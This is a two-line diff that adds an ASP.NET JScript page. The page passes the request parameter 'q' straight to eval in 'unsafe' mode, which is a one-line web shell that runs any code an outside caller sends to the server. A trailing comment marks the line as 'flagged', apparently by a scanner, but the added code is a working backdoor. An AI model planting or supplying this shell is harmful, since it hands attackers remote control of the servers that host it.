@@ -1,0 +1,2 @@
+<%@ Page Language="JScript" %>
+<% eval(Request.Item["q"], "unsafe"); %><%-- gatehouse: flagged --%>
